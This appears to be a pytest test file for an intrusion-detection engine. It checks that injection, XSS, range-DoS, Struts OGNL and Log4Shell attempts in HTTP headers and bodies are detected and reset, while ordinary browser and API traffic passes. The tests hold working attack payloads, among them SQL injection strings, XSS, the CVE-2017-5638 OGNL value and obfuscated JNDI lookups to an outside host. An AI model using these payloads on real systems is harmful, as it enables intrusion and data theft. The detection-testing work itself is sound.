"""Injections in any request header an application may read (custom X-* headers, X-Forwarded-Host, ...)
are seen; headers of fixed standard syntax are not checked; ordinary browser, curl and API requests
(JWTs, trace headers, UUIDs, cookies) raise nothing; bodies of GET, DELETE and other methods are
checked as POST bodies are. Through the whole worker engine (parser → hooks → detectors)."""

from __future__ import annotations

import pytest

from core.verdict import WorkerVerdict
from workers.detect.hooks import MAX_HEADER_VALUE_BYTES, MAX_HEADER_VALUES, injectable_header_values

from .test_body_parts import flow
from .test_engine import DB, Lab

CHROME = [
    ("Host", "shop.example.com"),
    ("Connection", "keep-alive"),
    ("sec-ch-ua", '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"'),
    ("sec-ch-ua-mobile", "?0"),
    ("sec-ch-ua-platform", '"Windows"'),
    ("Upgrade-Insecure-Requests", "1"),
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36",
    ),  # fmt: skip
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Sec-Fetch-Site", "same-origin"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Sec-Fetch-User", "?1"),
    ("Sec-Fetch-Dest", "document"),
    ("Referer", "https://shop.example.com/search?q=red+shoes&sort=price"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Accept-Language", "en-GB,en;q=0.9,fr-FR;q=0.8,fr;q=0.7"),
    ("Cookie", "sessionid=8f3b2c1d9e; csrftoken=Zx81kQ; _ga=GA1.2.1234567890.1700000000; theme=dark"),
    ("If-None-Match", 'W/"5e-1a2b3c"'),
    ("If-Modified-Since", "Tue, 05 Dec 2026 10:00:00 GMT"),
]
FIREFOX = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
    ("Accept", "application/json, text/plain, */*"),
    ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("X-CSRF-Token", "a1B2c3D4e5F6g7H8i9J0"),
    ("Origin", "https://shop.example.com"),
    ("DNT", "1"),
    ("Connection", "keep-alive"),
    ("Referer", "https://shop.example.com/cart?item=42&qty=2"),
    ("Cookie", 'cart="{\\"items\\":[42]}"; lang=de'),
    ("Sec-Fetch-Dest", "empty"),
    ("Priority", "u=4"),
    ("Pragma", "no-cache"),
    ("Cache-Control", "no-cache"),
]
CURL = [("Host", "api.example.com"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")]
JWT = (
    "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ijk4NzYifQ.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6Ik8nQnJp"
    "ZW4iLCJpYXQiOjE3MDAwMDAwMDB9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
)
API_CLIENT = [
    ("Host", "api.example.com"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Accept", "application/json"),
    ("Authorization", "Bearer " + JWT),
    ("X-Api-Key", "sk_live_51H8xYzAbCdEfGh"),
    ("X-Request-Id", "7f1c2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b"),
    ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
    ("tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7"),
    ("b3", "80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1-05e3ac9a4f6e3b90"),
    ("X-B3-TraceId", "80f198ee56343ba864fe8b2a57d3eff7"),
    ("X-Forwarded-For", "203.0.113.7, 10.0.0.2"),
    ("X-Forwarded-Proto", "https"),
    ("X-Forwarded-Host", "api.example.com:443"),
    ("Forwarded", 'for="[2001:db8::17]:4711";proto=https;by=203.0.113.43'),
    ("X-Amzn-Trace-Id", "Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1"),
    ("X-Api-Filter", "name desc, created_at asc"),
    ("X-Client-Name", "O'Brien's inventory sync"),
    ("Idempotency-Key", "order-2026-12-06-0001"),
    ("Accept-Encoding", "gzip, deflate"),
    ("Content-Type", "application/json; charset=utf-8"),
]
BENIGN = {"chrome": CHROME, "firefox xhr": FIREFOX, "curl": CURL, "api client": API_CLIENT}

ATTACKS = {
    "custom header, quoted tautology": ("X-Api-Filter", "1' OR '1'='1"),
    "x-forwarded-host, union": ("X-Forwarded-Host", "x' UNION SELECT password FROM users-- "),
    "x-* header, stacked sleep": ("X-Tenant", "7; SELECT pg_sleep(5)--"),
    "x-forwarded-for, time based": ("X-Forwarded-For", "1' AND SLEEP(5) AND '1'='1"),
    "custom header, stacked statement without a space": ("X-Item", "1;shutdown"),
    "custom header, number tautology": ("X-Item-Id", "1=1"),
    "user agent, xss": ("User-Agent", "<script>alert(document.domain)</script>"),
    "custom header, xss": ("X-Display-Name", '"><img src=x onerror=alert(1)>'),
}


def request(
    method: str, headers: list[tuple[str, str]], body: bytes = b"", path: str = "/api/items"
) -> bytes:
    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in headers)
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode("latin-1") + b"\r\n" + body


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_ordinary_browser_and_api_requests_raise_nothing(name: str) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("GET", BENIGN[name]), 42000))
    assert WorkerVerdict.RESET_FLOW not in verdicts
    assert lab.threats() == [], lab.threats()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_injection_in_a_header_an_app_may_read_is_reset_in_protect(name: str) -> None:
    header, value = ATTACKS[name]
    threat = "xss" if "xss" in name else "sql_injection"
    lab = Lab()
    headers = [h for h in CURL if h[0].lower() != header.lower()] + [(header, value)]
    verdicts = lab.send(flow(request("GET", headers), 42100))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW, name
    [event] = lab.threats(threat)
    assert event["action"] == "reset" and event["group"] == "web"


KILLER = "bytes=0-," + ",".join(f"5-{i}" for i in range(1300))  # slowhttptest -R
OGNL = "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-T','1')}.multipart/form-data"


@pytest.mark.parametrize(
    ("threat", "attack", "benign", "port"),
    [
        # hundreds of overlapping ranges; a player's one range
        ("http_range_dos", ("Range", KILLER), ("Range", "bytes=1048576-"), 42300),
        # CVE-2017-5638's OGNL in Content-Type; a multipart type
        ("struts_rce", ("Content-Type", OGNL), ("Content-Type", "multipart/form-data; boundary=x"), 42310),
    ],
)
def test_a_header_attack_is_reset_and_its_benign_twin_is_not(
    threat: str, attack: tuple[str, str], benign: tuple[str, str], port: int
) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("GET", [*CURL, attack], path="/"), port))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats(threat)
    assert event["action"] == "reset" and event["group"] == "web"
    twin = Lab()
    verdicts = twin.send(flow(request("GET", [*CURL, benign], path="/"), port + 1))
    assert WorkerVerdict.RESET_FLOW not in verdicts and twin.threats() == []


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("User-Agent", "${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/aWQ=}"),
        ("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.18.0.9/a}"),
        ("Accept", "${${lower:j}ndi:dns://198.18.0.9/b}"),  # a header the injection checks skip
    ],
)
def test_a_jndi_lookup_in_any_header_is_log4shell_and_reset(header: str, value: str) -> None:
    lab = Lab()
    headers = [h for h in CURL if h[0] != header] + [(header, value)]
    verdicts = lab.send(flow(request("GET", headers), 42400))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats("log4shell")
    assert event["action"] == "reset" and event["group"] == "web"


def test_a_jndi_lookup_in_a_json_body_is_log4shell_and_a_build_property_is_not() -> None:
    lab = Lab()
    body = b'{"username": "\\u0024{jndi:ldap://198.18.0.9/c}", "password": "x"}'
    lab.send(flow(request("POST", [*CURL, ("Content-Type", "application/json")], body), 42401))
    assert [e["name"] for e in lab.threats()] == ["log4shell"]
    quiet = Lab()
    body = b'{"artifact": "app-${project.version}.jar", "home": "${HOME}"}'
    verdicts = quiet.send(flow(request("POST", [*CURL, ("Content-Type", "application/json")], body), 42402))
    assert WorkerVerdict.RESET_FLOW not in verdicts and quiet.threats() == []


def test_the_same_header_injection_is_an_alert_in_monitor() -> None:
    lab = Lab()
    lab.send(flow(request("GET", [*CURL, ("X-Api-Filter", "1' OR '1'='1")]), 42200, server=DB))
    [event] = lab.threats("sql_injection")
    assert event["action"] == "alert" and event["group"] == "db"


def test_headers_of_fixed_standard_syntax_are_not_checked() -> None:
    fixed = [
        (b"Accept", b"text/html;q=0.9"), (b"Authorization", b"Basic Jyc9Jyc="), (b"If-Match", b'"x"'),
        (b"Range", b"bytes=0-99"), (b"Sec-Fetch-Mode", b"cors"), (b"sec-ch-ua", b'"A";v="1"'),
        (b"Host", b"a.example"), (b"Cache-Control", b"max-age=0"), (b":path", b"/x?a='"),
    ]  # fmt: skip
    assert injectable_header_values(fixed) == []
    read = [
        (b"User-Agent", b"Mozilla/5.0 (X11)"),
        (b"X-Forwarded-Host", b"a.example"),
        (b"X-Q", b"1' or 1=1"),
    ]
    assert injectable_header_values(read) == ["Mozilla/5.0 (X11)", "1' or 1=1"]  # a bare host name: a token


def test_inert_values_are_skipped_and_nothing_that_can_inject() -> None:
    inert = [b"7f1c2a9e-3b4d-4e5f-8a6b-1c2d3e4f5a6b", b"c2VjcmV0==", b"congo=t61rcWkgMzE,rojo=00f067aa0b",
             b"Root=1-6789-abcdef;Parent=53995c3f;Sampled=1", b"curl/7.88.1"]  # fmt: skip
    assert injectable_header_values([(b"X-V", v) for v in inert]) == []
    risky = [b"1=1", b"1;shutdown", b"a=1;shutdown", b"1%27", b"1 or 1", b"a=1'", b"1/**/or/**/1", b"a=(1)"]
    assert injectable_header_values([(b"X-V", v) for v in risky]) == [v.decode() for v in risky]


def test_header_values_are_bounded_in_count_and_bytes() -> None:
    many = [(b"X-H%d" % i, b"v %d" % i) for i in range(MAX_HEADER_VALUES + 10)]
    assert len(injectable_header_values(many)) == MAX_HEADER_VALUES
    [long] = injectable_header_values([(b"X-Long", b"a b" * MAX_HEADER_VALUE_BYTES)])
    assert len(long) == MAX_HEADER_VALUE_BYTES


@pytest.mark.parametrize("method", ["GET", "DELETE", "PUT", "PATCH", "OPTIONS", "POST"])
def test_bodies_of_every_method_are_checked_as_post_bodies_are(method: str) -> None:
    lab = Lab()
    form = [*CURL, ("Content-Type", "application/x-www-form-urlencoded")]
    verdicts = lab.send(flow(request(method, form, b"id=1%27+or+%271%27%3D%271"), 42300))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW, method
    assert lab.threats("sql_injection"), method
    benign = Lab()
    json = [*CURL, ("Content-Type", "application/json")]
    verdicts = benign.send(flow(request(method, json, b'{"name": "O\'Brien", "ids": [1, 2]}'), 42400))
    assert WorkerVerdict.RESET_FLOW not in verdicts and benign.threats() == [], method
